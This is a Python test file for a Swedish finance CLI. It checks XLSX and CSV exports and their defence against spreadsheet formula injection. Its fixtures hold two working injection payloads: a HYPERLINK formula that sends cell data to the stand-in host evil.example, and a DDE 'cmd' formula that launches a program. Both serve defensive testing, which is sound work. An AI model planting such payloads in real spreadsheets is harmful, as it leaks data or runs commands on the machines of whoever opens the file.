"""Formats finance opens: XLSX with Swedish headers and numeric cells, CSV for Excel, and no
cell of any CSV or XLSX that a spreadsheet would run as a formula."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from shvo_cli.render.cells import neutral, write_csv
from tests.conftest import Run, commit_records

Shvo = Callable[..., Run]
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
HOSTILE_NAME = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1",
                                  HOSTILE_TITLE, HOSTILE_NAME])
def test_every_trigger_is_neutralised(text: str) -> None:
    assert neutral(text) == "'" + text
    out = write_csv(["h"], [[text]], excel=True)
    assert ";" not in out.splitlines()[0] and "'" in out


def test_numbers_and_ordinary_text_pass_unchanged() -> None:
    assert neutral(-7596) == -7596 and neutral("Härryda") == "Härryda" and neutral("") == ""
    assert write_csv(["amount"], [[-7596]]) == "amount\n-7596\n"


@pytest.fixture
def hostile(records: Path) -> Path:
    """A request titled with a formula and a budget line named with one."""
    req = records / "requests" / "REQ-2025-0001.yaml"
    text = req.read_text(encoding="utf-8")
    req.write_text(text.replace("title: Påminnelse om uppföljning av SIP i SAMSA",
                                "title: '" + HOSTILE_TITLE.replace("'", "''") + "'"),
                   encoding="utf-8")
    budget = records / "budgets" / "budget-2025.yaml"
    text = budget.read_text(encoding="utf-8")
    budget.write_text(text.replace("name: Drift och licens",
                                   "name: \"" + HOSTILE_NAME + "\""), encoding="utf-8")
    return records


def _cells(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row]


def test_request_list_csv_neutralises_a_hostile_title(shvo: Shvo, hostile: Path) -> None:
    import csv

    run = shvo("request", "list", "--format", "csv", "--records", str(hostile))
    assert run.exit_code == 0, run.stderr
    cells = _cells(list(csv.reader(io.StringIO(run.stdout))))
    assert "'" + HOSTILE_TITLE in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)


@pytest.mark.parametrize("args", [["budget", "split", "--excel"],
                                  ["budget", "invoices", "--month", "2025-01", "--excel"],
                                  ["budget", "split", "--monthly", "--format", "csv"]])
def test_budget_csv_neutralises_a_hostile_line_name(shvo: Shvo, hostile: Path,
                                                     args: list[str]) -> None:
    import csv

    run = shvo(*args, "--records", str(hostile))
    assert run.exit_code == 0, run.stderr
    text = run.stdout.lstrip("\ufeff")
    delimiter = ";" if "--excel" in args else ","
    cells = _cells(list(csv.reader(io.StringIO(text), delimiter=delimiter)))
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    if "--excel" in args:
        assert "'" + HOSTILE_NAME in cells


def test_xlsx_has_swedish_headers_numbers_and_sources(shvo: Shvo, hostile: Path,
                                                     tmp_path: Path) -> None:
    out = tmp_path / "faktura.xlsx"
    run = shvo("--lang", "sv", "budget", "invoices", "--month", "2025-01", "--format",
               "xlsx", "-o", str(out), "--records", str(hostile))
    assert run.exit_code == 0, run.stderr
    wb = openpyxl.load_workbook(out)
    ws = wb.worksheets[0]
    headers = [c.value for c in ws[1]]
    assert headers[:5] == ["månad", "betalare", "namn", "kommunalförbund", "belopp"]
    assert "'" + HOSTILE_NAME in headers
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    stenungsund = next(r for r in rows if r[1] == "1415")
    assert stenungsund[2] == "Stenungsund" and stenungsund[4] == 7596
    assert isinstance(stenungsund[4], int)
    assert ws.cell(row=2, column=5).number_format.endswith('"kr"')
    total, check = rows[-2], rows[-1]
    assert total[0] == "totalt" and total[4] == sum(r[4] for r in rows[:-2])
    assert all(v == 0 for v in check[4:-1])
    assert headers[-1] == "status" and stenungsund[-1] == "planerad"
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@"))
                   for r in ws.iter_rows(values_only=True) for v in r)
    sources = wb.worksheets[1]
    assert sources.title == "Källor"
    assert any("budget-2025" in str(v) for r in sources.iter_rows(values_only=True) for v in r)


def test_xlsx_is_reproducible_and_never_goes_to_a_terminal(shvo: Shvo, tmp_path: Path
                                                           ) -> None:
    rec = commit_records(tmp_path / "repo")
    refused = shvo("budget", "split", "--format", "xlsx", "--records", str(rec))
    assert refused.exit_code == 2 and "-o" in refused.stderr and refused.stdout == ""
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    for path in (a, b):
        assert shvo("budget", "split", "--format", "xlsx", "-o", str(path),
                    "--records", str(rec)).exit_code == 0
    assert a.read_bytes() == b.read_bytes()
    wb = openpyxl.load_workbook(a)
    commit = [r for r in wb.worksheets[1].iter_rows(values_only=True) if r[0] == "git commit"]
    assert commit and len(str(commit[0][1]).split()[0]) == 40


def test_reconcile_and_invoice_show_as_xlsx(shvo: Shvo, tmp_path: Path) -> None:
    rec = commit_records(tmp_path / "repo")
    run = shvo("budget", "reconcile", "--actual", "population-2024-12-31", "--format", "xlsx",
               "-o", str(tmp_path / "r.xlsx"), "--records", str(rec))
    assert run.exit_code == 0, run.stderr
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx").worksheets[0]
    assert list(ws.iter_rows(values_only=True))[-1][7] == 0  # check row of the difference
    assert shvo("invoice", "issue", "2025-01", "--preliminary", "--date", "2025-01-31",
                "--by", "handlaggare@example.org", "--records", str(rec)).exit_code == 0
    run = shvo("invoice", "show", "2025-01", "--format", "xlsx", "-o",
               str(tmp_path / "i.xlsx"), "--records", str(rec))
    assert run.exit_code == 0, run.stderr
    ws = openpyxl.load_workbook(tmp_path / "i.xlsx").worksheets[0]
    first = next(iter(ws.iter_rows(min_row=2, max_row=2, values_only=True)))
    assert "PRELIMINARY" in str(first[0]) and isinstance(first[4], int)


def test_excel_csv_has_bom_semicolons_and_swedish_headers(shvo: Shvo, records: Path) -> None:
    run = shvo("--lang", "sv", "budget", "invoices", "--month", "2025-01", "--excel",
               "--records", str(records))
    assert run.stdout.startswith("\ufeffmånad;betalare;namn;kommunalförbund;belopp;")
    assert "Härryda" in run.stdout
    out = records.parent / "fakturor.csv"
    shvo("budget", "invoices", "--month", "2025-01", "--excel", "-o", str(out),
         "--records", str(records))
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw and "Härryda".encode() in raw
    plain = shvo("--lang", "sv", "budget", "invoices", "--month", "2025-01", "--format",
                 "csv", "--records", str(records))
    assert plain.stdout.startswith("month,payer,name,association,amount,")


def test_budget_compare_opens_in_excel(tmp_path: Path, shvo: Shvo) -> None:
    """``budget compare --format xlsx``: Swedish headers, numbers as numbers, a check row,
    and a sources sheet; the columns add up exactly."""
    from openpyxl import load_workbook

    from tests.conftest import commit_records

    records = commit_records(tmp_path / "repo")
    for args in (("plan", "new", "2026", "--from", "2025", "--from-draft"),
                 ("budget", "new", "2026", "--from", "2025")):
        made = shvo(*args, "--records", str(records))
        assert made.exit_code == 0, made.stderr
    target = tmp_path / "jamforelse.xlsx"
    run = shvo("--lang", "sv", "budget", "compare", "2025", "2026", "--format", "xlsx",
               "-o", str(target), "--records", str(records))
    assert run.exit_code == 0, run.stderr
    book = load_workbook(target)
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    assert "befolkningens effekt" in header and "budgetens effekt" in header
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    numbers = [r for r in values if isinstance(r[3], int)]
    assert len(numbers) >= 49
    assert len(book.worksheets) == 2
